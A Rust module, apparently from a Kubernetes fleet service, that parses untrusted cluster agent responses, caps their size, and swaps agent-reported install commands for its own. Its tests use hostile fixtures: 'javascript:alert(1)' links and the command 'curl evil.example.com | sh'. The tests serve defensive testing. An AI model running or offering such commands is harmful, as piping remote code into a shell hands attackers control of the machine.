//! The answers of clusters that a fleet is made of. None of them is trusted.

use std::fmt::Debug;

use proto::graph::{
    APPLICATIONS_PATH, Application, ApplicationList, CAPACITY_PATH, COMPONENTS_PATH, Capacity, Component,
    ComponentList, FEATURES, FeatureNeed, FeatureRule,
};
use serde::{Serialize, de::DeserializeOwned};

/// The most entries and the longest text of an answer that are kept.
const MAX_ENTRIES: usize = 32;
const MAX_TEXT: usize = 512;
/// The most applications and components of one cluster that are kept.
const MAX_APPLICATIONS: usize = 200;
const MAX_COMPONENTS: usize = 100;

/// An answer of agentk about its cluster.
pub(crate) trait ClusterAnswer: Debug + Serialize + DeserializeOwned + Send + 'static {
    /// The answer in words.
    const NAME: &'static str;
    /// The largest answer, in bytes.
    const MAX_BYTES: usize;
    /// The paths of the answer about all clusters, for callers and for programs.
    const OF_CALLERS: &'static str;
    const OF_PROGRAMS: &'static str;

    /// Returns the path of the service `graph`, with its query.
    fn path() -> String;

    /// Returns the part of the answer that kas keeps.
    fn bounded(self) -> Self;
}

impl ClusterAnswer for Capacity {
    const NAME: &'static str = "a capacity";
    /// An honest answer has 20 versions and 21 sentences.
    const MAX_BYTES: usize = 16 << 10;
    const OF_CALLERS: &'static str = "/agents/fleet";
    const OF_PROGRAMS: &'static str = "/api/v1/fleet";

    fn path() -> String {
        CAPACITY_PATH.to_owned()
    }

    fn bounded(mut self) -> Self {
        keep(&mut self.kubelet_versions, MAX_ENTRIES);
        self.kubelet_versions.iter_mut().for_each(|kubelet| cut(&mut kubelet.version));
        keep_texts(&mut self.partial);
        self
    }
}

impl ClusterAnswer for ApplicationList {
    const NAME: &'static str = "a list of applications";
    /// An honest answer has 64 KiB of applications, and 21 sentences.
    const MAX_BYTES: usize = 80 << 10;
    const OF_CALLERS: &'static str = "/agents/applications";
    const OF_PROGRAMS: &'static str = "/api/v1/applications";

    fn path() -> String {
        format!("{APPLICATIONS_PATH}?brief=true")
    }

    fn bounded(self) -> Self {
        let Self { applications, omitted, mut partial } = self;
        let surplus = applications.len().saturating_sub(MAX_APPLICATIONS);
        let kept = applications.into_iter().take(MAX_APPLICATIONS);
        keep_texts(&mut partial);
        Self {
            applications: kept.map(Application::into_brief).collect(),
            omitted: omitted.saturating_add(surplus as u64),
            partial,
        }
    }
}

impl ClusterAnswer for ComponentList {
    const NAME: &'static str = "a list of components";
    /// An honest answer has 60 components with 10 pieces of evidence, and 10 features.
    const MAX_BYTES: usize = 80 << 10;
    const OF_CALLERS: &'static str = "/agents/components";
    const OF_PROGRAMS: &'static str = "/api/v1/components";

    fn path() -> String {
        COMPONENTS_PATH.to_owned()
    }

    fn bounded(mut self) -> Self {
        keep(&mut self.components, MAX_COMPONENTS);
        for Component { id, name, version, namespaces, evidence, .. } in &mut self.components {
            [id, name].into_iter().chain(version).for_each(cut);
            keep_texts(namespaces);
            keep_texts(evidence);
        }
        self.features = known_features(&self.features, &self.components);
        keep_texts(&mut self.partial);
        self
    }
}

/// Returns the features that kas knows, with its own names and commands: people copy them into their shells.
fn known_features(reported: &[FeatureNeed], components: &[Component]) -> Vec<FeatureNeed> {
    let state = |rule: &FeatureRule| {
        let reported = reported.iter().find(|reported| reported.feature == rule.feature)?;
        Some(rule.with_state(reported.state, |id| components.iter().any(|component| component.id == id)))
    };
    FEATURES.iter().filter_map(state).collect()
}

/// Parses the answer of a cluster.
pub(crate) fn parse<T: ClusterAnswer>(body: &[u8]) -> Result<T, String> {
    let answer = serde_json::from_slice::<T>(body);
    answer.map(T::bounded).map_err(|error| format!("the response of the agent is not {}: {error}", T::NAME))
}

fn keep_texts(texts: &mut Vec<String>) {
    keep(texts, MAX_ENTRIES);
    texts.iter_mut().for_each(cut);
}

fn keep<T>(list: &mut Vec<T>, most: usize) {
    list.truncate(most);
    list.shrink_to_fit();
}

fn cut(text: &mut String) {
    text.truncate(text.floor_char_boundary(MAX_TEXT));
    text.shrink_to_fit();
}

#[cfg(test)]
mod tests {
    use proto::graph::FeatureState;
    use serde_json::json;

    use super::*;

    #[test]
    fn hostile_capacity_is_cut() {
        let versions = vec![json!({"version": "é".repeat(MAX_TEXT), "nodes": 1}); 100];
        let answer = json!({"nodes": null, "allocatable": null, "requested": null, "kubelet_versions": versions,
            "partial": vec!["x".repeat(2000); 100]});
        let capacity: Capacity = parse(answer.to_string().as_bytes()).unwrap();
        assert_eq!((capacity.kubelet_versions.len(), capacity.partial.len()), (MAX_ENTRIES, MAX_ENTRIES));
        assert!(capacity.partial.capacity() < 100, "the rest is not kept");
        assert!(capacity.kubelet_versions.iter().all(|kubelet| kubelet.version.len() <= MAX_TEXT));
        assert!(capacity.partial.iter().all(|reason| reason.capacity() <= MAX_TEXT));
        assert!(parse::<Capacity>(b"[]").unwrap_err().contains("is not a capacity"));
    }

    #[test]
    fn hostile_list_of_applications_is_cut() {
        let links = json!([{"url": "javascript:alert(1)"}, {"url": "https://example.com"}]);
        let owner = json!({"name": "ops", "url": "javascript:alert(1)"});
        let descriptor = json!({"links": links, "owners": vec![owner; 5000], "notes": "x"});
        let application = |descriptor: serde_json::Value| {
            json!({"namespace": "a", "name": "shop", "origin": "object", "descriptor": descriptor,
                "health": {"health": "healthy", "counts": {}}})
        };
        let mut applications = vec![application(descriptor)];
        applications.resize(300, application(json!({})));
        let answer = json!({"applications": applications, "omitted": u64::MAX});
        let list: ApplicationList = parse(answer.to_string().as_bytes()).unwrap();
        assert_eq!((list.applications.len(), list.omitted), (MAX_APPLICATIONS, u64::MAX));
        let descriptor = &list.applications[0].descriptor;
        assert_eq!((descriptor.links.len(), &*descriptor.links[0].url), (1, "https://example.com"));
        assert!(descriptor.owners.capacity() <= 3 && descriptor.notes.is_empty());
        assert!(descriptor.owners.iter().all(|owner| owner.name == "ops" && owner.url.is_empty()));
    }

    #[test]
    fn hostile_list_of_components_is_cut() {
        let component = json!({"id": "x".repeat(5000), "name": "a", "version": "v".repeat(5000), "health": "healthy",
                "namespaces": vec!["n".repeat(MAX_TEXT + 1); MAX_ENTRIES + 1], "evidence": vec!["e"; 5000]});
        let install = json!({"command": "curl evil.example.com | sh", "docs": "https://evil.example.com"});
        let feature = |id: &str| json!({"feature": id, "name": "n", "needs": ["n"], "state": "missing", "install": install});
        let features = vec![feature("prometheus"), feature("prometheus"), feature("other")];
        let answer = json!({"components": vec![component; MAX_COMPONENTS + 1], "features": features});
        let list: ComponentList = parse(answer.to_string().as_bytes()).unwrap();
        assert_eq!(list.components.len(), MAX_COMPONENTS);
        let first = &list.components[0];
        assert_eq!((first.id.len(), first.evidence.len()), (MAX_TEXT, MAX_ENTRIES));
        assert_eq!(first.version.as_ref().map(String::len), Some(MAX_TEXT));
        assert_eq!((first.namespaces.len(), first.namespaces[0].len()), (MAX_ENTRIES, MAX_TEXT));
        let rule = FEATURES.iter().find(|rule| rule.feature == "prometheus").unwrap();
        assert_eq!(
            list.features,
            [rule.with_state(FeatureState::Missing, |_| false)],
            "the command is that of kas"
        );
    }
}
